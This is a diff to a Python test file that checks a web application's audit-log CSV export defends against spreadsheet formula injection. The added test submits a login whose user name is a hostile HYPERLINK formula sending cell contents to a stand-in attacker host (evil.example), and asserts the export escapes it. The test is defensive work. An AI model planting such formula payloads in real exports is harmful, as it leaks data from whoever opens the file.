@@ -91,12 +91,19 @@ def test_queued_job_polls_and_expired_files_are_removed(client, officer):
 def test_audit_csv_goes_through_the_safe_cell_helper(client):
     from zhijian.security import audit
     from zhijian.security.choices import AuditEvent
+    from zhijian.security.models import AuditLog
 
     auditor = make_user("audit_admin", username="auditexport", is_staff=True)
-    audit.record(AuditEvent.LOGIN_FAILURE, outcome="failure", username="=HYPERLINK(\"http://x\")\u0007")
+    # The reproduction: a sign-in attempt whose user name is a formula lands in the audit log …
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    client.post("/accounts/login/", {"username": hostile, "password": "wrong-password-1"})
+    assert AuditLog.objects.filter(username=hostile, event=AuditEvent.LOGIN_FAILURE).exists()
+    # … and an older entry with a control character (written before the input rules).
+    audit.record(AuditEvent.LOGIN_FAILURE, outcome="failure", username="=1+2\u0007")
     client.force_login(auditor)
     body = b"".join(client.get("/security/audit/export.csv").streaming_content).decode("utf-8")
-    assert body.startswith("\ufeff") and "'=HYPERLINK" in body and "\u0007" not in body and ",=HYPERLINK" not in body
+    assert body.startswith("\ufeff") and "'=HYPERLINK" in body and "'=1+2" in body and "\u0007" not in body
+    assert ",=HYPERLINK" not in body and ',"=HYPERLINK' not in body
 
 
 def test_import_error_report_neutralises_rejected_values():
